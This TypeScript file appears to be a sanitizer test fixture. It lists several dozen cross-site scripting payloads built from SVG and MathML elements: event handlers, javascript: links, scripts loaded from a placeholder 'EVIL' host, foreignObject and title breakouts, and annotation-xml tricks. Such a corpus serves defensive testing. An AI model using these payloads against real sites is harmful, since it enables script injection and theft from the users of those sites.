import { EVIL, payloads, RUN } from './payload.ts';

/** Attacks in SVG and MathML, with elements that run, link and load. */
export const foreignPayloads = payloads('svg', [
  ['an SVG that loads', `<svg onload=${RUN}>`],
  ['an SVG in capitals with a slash', `<SVG/ONLOAD=${RUN}>`],
  ['an SVG with a script', `<svg><script>${RUN}</script></svg>`],
  [
    'an SVG with a script by its address',
    `<svg><script href="${EVIL}/s.js"/><script xlink:href="${EVIL}/x.js"/></svg>`,
  ],
  ['an SVG with an entity in its script', '<svg><script>attacked&lpar;&rpar;</script></svg>'],
  ['an SVG with a script in CDATA', `<svg><script><![CDATA[${RUN}]]></script></svg>`],
  [
    'an SVG that animates a link',
    `<svg><a><set attributeName=href to="javascript:${RUN}"/><text y=9>x</text></a></svg>`,
  ],
  ['an SVG that animates a handler', `<svg><animate onbegin=${RUN} attributeName=x dur=1s></svg>`],
  [
    'an SVG that animates by another',
    `<svg><animate xlink:href=#x attributeName=href values="javascript:${RUN}"/><a id=x><text>y</text></a></svg>`,
  ],
  [
    'an SVG that moves along a path',
    `<svg><animateMotion onend=${RUN} dur=1ms /><animateTransform onrepeat=${RUN} /></svg>`,
  ],
  ['an SVG that discards', '<svg><discard href="#panel" begin="0s"/></svg>'],
  ['an SVG link', `<svg><a href="javascript:${RUN}"><rect width=99 height=99 /></a></svg>`],
  [
    'an SVG link of old',
    `<svg xmlns:x="http://www.w3.org/1999/xlink"><a x:href="javascript:${RUN}"><text y=9>x</text></a></svg>`,
  ],
  [
    'an SVG that uses another',
    `<svg><use href="${EVIL}/use.svg#x"/><use xlink:href="data:image/svg+xml,<svg id='x'/>#x"/></svg>`,
  ],
  ['an SVG picture', `<svg><image href="${EVIL}/i.png"/><image xlink:href="${EVIL}/j.png"/></svg>`],
  ['an SVG filter picture', `<svg><filter><feImage href="${EVIL}/fe.png"/></filter></svg>`],
  ['an SVG pattern that loads', `<svg><rect fill="url(${EVIL}/fill.svg#x)" marker-end="url(${EVIL}/m.svg#x)"/></svg>`],
  [
    'an SVG with a cursor and a colour profile',
    `<svg><cursor xlink:href="${EVIL}/c.cur"/><color-profile xlink:href="${EVIL}/p.icc"/></svg>`,
  ],
  ['an SVG with HTML inside', `<svg><foreignObject><img src=x onerror=${RUN}></foreignObject></svg>`],
  ['an SVG with a frame inside', `<svg><foreignObject><iframe src="javascript:${RUN}"></iframe></foreignObject></svg>`],
  [
    'an SVG with a handler of its own',
    `<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">${RUN}</handler></svg>`,
  ],
  [
    'an SVG with a listener',
    `<svg><listener event="load" handler="#y" xmlns="http://www.w3.org/2001/xml-events"/></svg>`,
  ],
  [
    'an SVG with a title that breaks out',
    `<svg><title><img src=x onerror=${RUN}></title><desc><script>${RUN}</script></desc></svg>`,
  ],
  ['an SVG with a style that breaks out', `<svg><style><img src=x onerror=${RUN}></style></svg>`],
  ['an SVG with a switch', `<svg><switch><g systemLanguage=en onclick=${RUN}><rect/></g></switch></svg>`],
  [
    'an SVG over the page',
    '<svg style="position:fixed;inset:0" width=99999 height=99999><rect width=99999 height=99999 /></svg>',
  ],
  ['an SVG without an end', `<svg><a href="javascript:${RUN}"><text>x`],
  ['an SVG by another case', `<sVg><ForeignObject><iMg sRc=x oNeRrOr=${RUN}></ForeignObject></sVg>`],
  ['an SVG with a deep source', `<svg><symbol id=a><use href=#a /></symbol><use href=#a /></svg>`],
  ['MathML with a link', `<math href="javascript:${RUN}"><mi>x</mi></math>`],
  ['MathML with an old link', `<math xlink:href="javascript:${RUN}"><mtext>x</mtext></math>`],
  [
    'MathML with an action',
    `<math><maction actiontype="statusline#${EVIL}" xlink:href="javascript:${RUN}">x</maction></math>`,
  ],
  [
    'MathML with an annotation of HTML',
    `<math><annotation-xml encoding="text/html"><script>${RUN}</script></annotation-xml></math>`,
  ],
  [
    'MathML with an annotation of SVG',
    `<math><semantics><annotation-xml encoding="image/svg+xml"><svg onload=${RUN}></annotation-xml></semantics></math>`,
  ],
  ['MathML with a handler', `<math><mrow onclick=${RUN} style="background:url(${EVIL}/m)"><mi>x</mi></mrow></math>`],
  ['MathML with HTML in a text', `<math><mtext><img src=x onerror=${RUN}></mtext></math>`],
  ['MathML with a glyph', `<math><mglyph src="${EVIL}/g.png" alt=x /></math>`],
  [
    'MathML of a size',
    '<math><mspace width=99999px height=99999px /><mpadded voffset=-999px lspace=-999px>x</mpadded></math>',
  ],
  ['MathML with an error', `<math><merror><a href="javascript:${RUN}">x</a></merror></math>`],
]);
